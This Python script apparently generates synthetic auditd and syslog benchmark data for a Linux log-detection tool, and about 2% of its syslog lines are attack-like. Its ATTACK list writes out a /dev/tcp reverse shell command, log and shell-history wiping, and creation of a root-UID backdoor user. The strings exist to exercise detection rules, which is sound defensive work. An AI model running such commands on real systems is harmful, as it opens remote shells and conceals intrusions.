#!/usr/bin/env python3
"""Builds the syslog/auditd lane of bench/hunt-linux-lane.sh: two files in OUT_DIR,

- auditd.log: the project's sample crates/vigie-event/tests/data/auditd.log repeated, each
  copy with its audit serials shifted past the previous copy's (so the records of one
  event still share one serial and no two events do) and its timestamps shifted by the
  sample's span, so the copies follow each other in time;
- syslog.log: RFC 3164 lines (`Mon dd hh:mm:ss host prog[pid]: message`) of a Linux
  server (sshd, sudo, CRON, systemd, su, useradd, kernel, vsftpd...), about 2 % of them
  attack-like messages that SigmaHQ `rules/linux` look for, timestamps one per 50 ms
  and PIDs varying.

Together at least --lines lines (half each, rounded up to whole auditd copies).
Deterministic. Usage: gen_linux_lane.py --lines 1000000 --out DIR [--auditd SAMPLE]
"""

import argparse
import os
import random
import re
from datetime import datetime, timedelta, timezone

HOSTS = ["bastion", "db-01", "web-02", "mx-01", "core-rtr-mgmt"]
USERS = ["alice", "bob", "deploy", "backup", "nagios"]
ADDRS = ["10.20.0.15", "10.20.0.16", "10.20.1.7", "192.0.2.44", "198.51.100.23"]

BENIGN = [
    ("sshd", "Accepted publickey for {user} from {addr} port {port} ssh2: ED25519 SHA256:Qm9vYmFyYmF6cXV1eA"),
    ("sshd", "pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"),
    ("sshd", "Received disconnect from {addr} port {port}:11: disconnected by user"),
    ("sshd", "pam_unix(sshd:session): session closed for user {user}"),
    ("sshd", "Failed password for {user} from {addr} port {port} ssh2"),
    ("sudo", "{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx"),
    ("sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1001)"),
    ("CRON", "({user}) CMD (/usr/local/bin/backup.sh --incremental >/dev/null 2>&1)"),
    ("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
    ("systemd", "Started Session {port} of User {user}."),
    ("systemd", "Starting Daily apt download activities..."),
    ("systemd", "logrotate.service: Deactivated successfully."),
    ("kernel", "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC={addr} DST=10.20.0.1 LEN=60 PROTO=TCP SPT={port} DPT=23"),
    ("kernel", "EXT4-fs (sda1): re-mounted. Opts: errors=remount-ro"),
    ("postfix/smtpd", "connect from unknown[{addr}]"),
    ("vsftpd", "[{user}] OK LOGIN: Client \"{addr}\""),
    ("ntpd", "adjusting local clock by 0.000213s"),
    ("dhclient", "DHCPACK of 10.20.0.15 from 10.20.0.1"),
]
ATTACK = [
    ("sshd", "error: buffer_get_ret: trying to get more bytes 4 than in buffer 0"),
    ("sshd", "Did not receive identification string from {addr}"),
    ("bash", "cat /dev/null > /var/log/syslog"),
    ("bash", "sh -i >& /dev/tcp/192.0.2.44/4444 0>&1"),
    ("useradd", "new user: name=svc-upd, UID=0, GID=0, home=/root, shell=/bin/bash"),
    ("kernel", "audit: type=1400 audit(1764662400.123:99): apparmor=\"DENIED\" operation=\"open\" profile=\"/usr/sbin/rsyslogd\""),
    ("su", "FAILED SU (to root) {user} on pts/1"),
    ("bash", "unset HISTFILE; history -c"),
    ("vsftpd", "bad state: 2 ftp authentication failed"),
    ("systemd", "Stopped System Logging Service (rsyslog)."),
]


def auditd(sample: str, copies: int, out):
    lines = open(sample, encoding="utf-8").read().splitlines()
    stamp = re.compile(r"msg=audit\((\d+)\.(\d+):(\d+)\)")
    times = [int(m.group(1)) for line in lines if (m := stamp.search(line))]
    serials = [int(m.group(3)) for line in lines if (m := stamp.search(line))]
    span = max(times) - min(times) + 1
    step = max(serials) - min(serials) + 1
    n = 0
    for k in range(copies):
        def shift(m, k=k):
            return "msg=audit(%d.%s:%d)" % (int(m.group(1)) + k * span, m.group(2), int(m.group(3)) + k * step)
        for line in lines:
            out.write(stamp.sub(shift, line, count=1) + "\n")
            n += 1
    return n


def syslog(count: int, out, rng: random.Random):
    t = datetime(2026, 12, 2, 0, 0, 0, tzinfo=timezone.utc)
    for i in range(count):
        prog, msg = rng.choice(ATTACK) if rng.random() < 0.02 else rng.choice(BENIGN)
        text = msg.format(user=rng.choice(USERS), addr=rng.choice(ADDRS), port=rng.randint(1024, 65535))
        when = t + timedelta(milliseconds=50 * i)
        pid = "" if prog == "kernel" else "[%d]" % rng.randint(300, 65000)
        out.write("%s %2d %s %s %s%s: %s\n" % (when.strftime("%b"), when.day, when.strftime("%H:%M:%S"),
                                              rng.choice(HOSTS), prog, pid, text))
    return count


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--lines", type=int, default=1_000_000)
    ap.add_argument("--out", required=True)
    ap.add_argument("--auditd", default=os.path.join(os.path.dirname(__file__), "..", "crates", "vigie-event",
                                                    "tests", "data", "auditd.log"))
    a = ap.parse_args()
    os.makedirs(a.out, exist_ok=True)
    per = sum(1 for _ in open(a.auditd, encoding="utf-8"))
    copies = -(-(a.lines // 2) // per)
    with open(os.path.join(a.out, "auditd.log"), "w", encoding="utf-8") as f:
        na = auditd(a.auditd, copies, f)
    with open(os.path.join(a.out, "syslog.log"), "w", encoding="utf-8") as f:
        ns = syslog(max(a.lines - na, 0), f, random.Random(1))
    print("auditd.log %d lines (%d copies), syslog.log %d lines" % (na, copies, ns))


if __name__ == "__main__":
    main()
